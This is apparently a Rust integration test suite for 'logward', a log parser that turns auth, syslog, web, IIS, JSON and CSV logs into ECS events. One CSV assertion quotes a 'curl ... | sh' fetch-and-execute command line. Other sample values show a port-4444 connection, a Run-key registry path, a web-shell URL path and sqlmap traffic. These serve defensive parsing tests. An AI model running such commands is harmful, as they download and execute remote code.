//! `logward parse` on the project's own testdata, checked against expected files
//! (regenerate with LOGWARD_BLESS=1 after checking the difference by eye).

mod common;
use common::*;
use serde_json::Value;

fn run_case(name: &str, args: &[&str], files: &[&str]) -> Vec<Value> {
    let mut cmd = logward();
    cmd.current_dir(root().join("testdata/parse")).arg("parse").args(args).args(files);
    let out = cmd.output().unwrap();
    assert!(out.status.success(), "{name}: {}", String::from_utf8_lossy(&out.stderr));
    assert_matches_file(&out.stdout, &root().join(format!("testdata/parse/expected/{name}.ndjson")));
    let lines: u64 = files
        .iter()
        .map(|f| std::fs::read_to_string(root().join("testdata/parse").join(f)).unwrap().lines().count() as u64)
        .sum();
    assert_accounted(&out.stderr, lines);
    ndjson(&out.stdout)
}

fn get<'a>(v: &'a Value, path: &str) -> &'a Value {
    path.split('.').fold(v, |v, k| &v[k])
}

#[test]
fn auth_log_every_message_kind() {
    let evs = run_case("auth", &["--year", "2023"], &["auth.log"]);
    assert_eq!(evs.len(), 35);
    let actions: Vec<&str> = evs.iter().map(|e| get(e, "event.action").as_str().unwrap_or("-")).collect();
    assert_eq!(
        actions,
        [
            "ssh_login",
            "ssh_login",
            "ssh_login",
            "ssh_login",
            "ssh_login",
            "invalid_user",
            "invalid_user",
            "ssh_connection_closed",
            "ssh_disconnected",
            "ssh_disconnected",
            "ssh_no_identification",
            "possible_break_in_attempt",
            "possible_break_in_attempt",
            "max_auth_attempts_exceeded",
            "authentication_failure",
            "authentication_failure",
            "session_opened",
            "sudo_command",
            "sudo_failure",
            "sudo_not_in_sudoers",
            "authentication_failure",
            "su",
            "su",
            "session_opened",
            "user_created",
            "group_created",
            "user_added_to_group",
            "user_deleted",
            "password_changed",
            "session_opened",
            "cron_command",
            "session_closed",
            "session_started",
            "session_removed",
            "-"
        ]
    );
    // IPv6 sources, the rollover from Dec 31 2023 into Jan 1 2024, and an invalid user.
    assert_eq!(get(&evs[1], "source.ip"), "2001:db8:85a3::8a2e:370:7334");
    assert_eq!(get(&evs[4], "source.ip"), "fe80::1ff:fe23:4567:890a");
    assert_eq!(get(&evs[20], "@timestamp"), "2023-12-31T23:59:03Z");
    assert_eq!(get(&evs[21], "@timestamp"), "2024-01-01T00:00:01Z");
    assert_eq!(get(&evs[3], "user.name"), "oracle");
    assert_eq!(get(&evs[3], "logward.auth.invalid_user"), true);
    assert_eq!(get(&evs[9], "source.port"), 5556);
    assert_eq!(get(&evs[19], "user.effective.name"), "root");
    assert_eq!(get(&evs[34], "event.dataset"), "system.syslog");
    for e in &evs[..34] {
        assert_eq!(get(e, "event.dataset"), "system.auth");
        assert_eq!(get(e, "log.file.path"), "auth.log");
        assert!(get(e, "event.original").is_string());
    }
}

#[test]
fn syslog_5424_and_iso() {
    let evs = run_case("syslog", &["--year", "2023"], &["syslog.log"]);
    assert_eq!(get(&evs[1], "@timestamp"), "2023-08-24T12:14:15.000003Z");
    assert_eq!(get(&evs[1], "log.syslog.structured_data.exampleSDID@32473.iut"), "3");
    assert_eq!(get(&evs[2], "@timestamp"), "2023-08-14T12:30:02.203151Z");
    assert_eq!(get(&evs[4], "log.syslog.priority"), 13);
}

#[test]
fn tz_applies_to_zoneless_timestamps_only() {
    let out = logward()
        .current_dir(root().join("testdata/parse"))
        .args(["parse", "--year", "2023", "--tz", "Europe/Berlin", "syslog.log"])
        .output()
        .unwrap();
    let evs: Vec<Value> = ndjson(&out.stdout);
    assert_eq!(get(&evs[2], "@timestamp"), "2023-08-14T12:30:02.203151Z"); // had +02:00
    assert_eq!(get(&evs[3], "@timestamp"), "2023-08-14T12:30:03.5Z"); // zone-less, CEST
    assert_eq!(get(&evs[4], "@timestamp"), "2023-08-14T12:31:00Z"); // BSD, CEST
}

#[test]
fn web_access_variants() {
    let evs = run_case("access", &[], &["access.log"]);
    assert_eq!(get(&evs[0], "@timestamp"), "2023-10-10T20:55:36Z");
    assert_eq!(get(&evs[1], "url.query"), "next=%2Fadmin");
    assert_eq!(get(&evs[1], "user.name"), "alice");
    assert_eq!(get(&evs[1], "event.outcome"), "failure");
    assert_eq!(get(&evs[2], "source.ip"), "2001:db8::17");
    assert_eq!(get(&evs[3], "destination.domain"), "shop.example.com");
    assert_eq!(get(&evs[3], "user_agent.original"), "sqlmap/1.7");
    assert_eq!(get(&evs[4], "source.ip"), "10.0.0.2");
    assert_eq!(get(&evs[5], "http.response.status_code"), 408);
    for e in &evs {
        assert_eq!(get(e, "event.dataset"), "apache.access");
    }
}

#[test]
fn iis_w3c_with_changing_fields() {
    let evs = run_case("iis", &[], &["iis.log"]);
    assert_eq!(evs.len(), 3);
    assert_eq!(get(&evs[1], "user.name"), "CORP\\jdoe");
    assert_eq!(get(&evs[2], "url.path"), "/aspnet_client/shell.aspx");
    assert_eq!(get(&evs[2], "source.ip"), "198.51.100.99");
}

#[test]
fn json_lines_pass_through_nested() {
    let evs = run_case("json", &[], &["events.json"]);
    assert_eq!(evs[0]["source"]["ip"], "203.0.113.5");
    assert_eq!(evs[0]["event"]["outcome"], "failure");
    assert_eq!(evs[0]["@timestamp"], "2023-05-01T10:00:00Z");
    assert_eq!(evs[2]["message"], "no timestamp here");
}

#[test]
fn csv_exports_become_ecs_events() {
    let evs = run_case(
        "csv",
        &[],
        &["process_events.csv", "network_events.csv", "file_events.csv", "registry_events.csv", "logins.csv"],
    );
    let cats: Vec<&str> = evs.iter().map(|e| get(e, "event.category")[0].as_str().unwrap()).collect();
    assert_eq!(
        cats,
        [
            "process",
            "process",
            "process",
            "process",
            "network",
            "network",
            "file",
            "file",
            "registry",
            "authentication",
            "authentication"
        ]
    );
    assert_eq!(get(&evs[1], "process.command_line"), "/bin/bash -c \"curl -s http://198.51.100.7/a | sh\"");
    assert_eq!(get(&evs[1], "process.parent.pid"), 100);
    assert_eq!(get(&evs[3], "event.type")[0], "end");
    assert_eq!(get(&evs[5], "destination.port"), 4444);
    assert_eq!(get(&evs[8], "registry.path"), "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
    assert_eq!(get(&evs[9], "event.outcome"), "failure");
    assert_eq!(get(&evs[10], "event.outcome"), "success");
    assert_eq!(get(&evs[10], "user.id"), "u1001");
}

#[test]
fn csv_map_flag_and_unmapped_columns() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("x.csv");
    std::fs::write(&f, "pid,proc_cmd,colour\n7,/bin/true,blue\n").unwrap();
    let out = logward().args(["parse", "--map", "proc_cmd=process.command_line"]).arg(&f).output().unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["process"]["command_line"], "/bin/true");
    assert_eq!(v["logward"]["csv"]["colour"], "blue");
    assert_eq!(v["process"]["pid"], 7);
}

#[test]
fn custom_line_format_and_unknown_text() {
    let evs = run_case("hdfs", &["--line-format", "<Date> <Time> <Pid> <Level> <Component>: <Content>"], &["hdfs.log"]);
    assert_eq!(evs.len(), 2);
    assert_eq!(get(&evs[0], "message"), "PacketResponder 1 for block blk_38865049064139660 terminating");
    assert_eq!(get(&evs[0], "@timestamp"), "2008-11-09T20:36:15Z");
    let evs = run_case("text", &[], &["unknown.txt"]);
    assert_eq!(get(&evs[0], "@timestamp"), "2023-03-04T05:06:07.890Z");
    assert!(evs[1].get("@timestamp").is_none());
    assert_eq!(get(&evs[1], "event.dataset"), "logward.text");
}

#[test]
fn continuation_lines_take_their_message_time() {
    let dir = tempfile::tempdir().unwrap();
    let sys = dir.path().join("system.log");
    std::fs::write(&sys, "Dec 13 11:35:28 mac agent[1]: start of a long message\n\tsecond line\n\t\tthird line\nDec 13 11:35:29 mac agent[1]: next\nApr 4 03:39:57 --- last message repeated 1 time ---\n").unwrap();
    let out = logward().args(["parse", "--year", "2016"]).arg(&sys).output().unwrap();
    let e = ndjson(&out.stdout);
    assert_eq!(e[1]["@timestamp"], "2016-12-13T11:35:28Z");
    assert_eq!(e[2]["@timestamp"], "2016-12-13T11:35:28Z");
    assert_eq!(e[2]["tags"][0], "continuation");
    assert_eq!(e[2]["message"], "third line");
    assert!(e[3].get("tags").is_none());
    assert_eq!(e[4]["@timestamp"], "2017-04-04T03:39:57Z"); // after December: the next year
    let nginx = dir.path().join("nginx-error.log");
    std::fs::write(&nginx, "2019/10/30 23:26:34 [error] 1#1: *5 FastCGI sent in stderr: \"PHP message: x\nPHP message: PHP Warning: y\n2019/10/30 23:27:00 [error] 1#1: done\n").unwrap();
    let out = logward().arg("parse").arg(&nginx).output().unwrap();
    let e = ndjson(&out.stdout);
    assert_eq!(e[1]["event"]["dataset"], "nginx.error");
    assert_eq!(e[1]["@timestamp"], "2019-10-30T23:26:34Z");
    assert_eq!(e[1]["tags"][0], "continuation");
}

/// Every registered format's examples: each line gives the fields the format documents,
/// and a file of it is detected as that format (unless the format is only chosen by name).
#[test]
fn every_registered_format_parses_and_detects_its_examples() {
    use logward::parse::format::{Detect, REGISTRY};
    let dir = tempfile::tempdir().unwrap();
    for format in REGISTRY {
        assert!(!format.examples().is_empty(), "{}: no examples", format.name());
        for (n, ex) in format.examples().iter().enumerate() {
            let file = dir.path().join(format!("{}-{n}.log", format.name()));
            let mut text = ex.before.join("\n");
            if !text.is_empty() {
                text.push('\n');
            }
            text.push_str(ex.line);
            text.push('\n');
            std::fs::write(&file, text).unwrap();
            let run = |forced: bool| {
                let mut cmd = logward();
                cmd.args(["parse", "-q"]).args(ex.args);
                if forced {
                    cmd.args(["--format", format.name()]);
                }
                let out = cmd.arg(&file).output().unwrap();
                assert!(out.status.success(), "{}: {}", format.name(), String::from_utf8_lossy(&out.stderr));
                out.stdout
            };
            let forced = run(true);
            let events = ndjson(&forced);
            let ev = events.last().unwrap_or_else(|| panic!("{}: no event for {}", format.name(), ex.line));
            for (path, want) in ex.fields {
                let got =
                    logward::event::get(ev, path).unwrap_or_else(|| panic!("{}: no {path} in {ev}", format.name()));
                let got = got.as_str().map(str::to_string).unwrap_or_else(|| got.to_string());
                assert_eq!(&got, want, "{}: {path} of {}", format.name(), ex.line);
            }
            if format.detect() != Detect::Named || std::ptr::eq(*format, logward::parse::format::fallback()) {
                assert_eq!(
                    run(false),
                    forced,
                    "{}: a file of {} is detected as another format",
                    format.name(),
                    ex.line
                );
            }
        }
    }
}
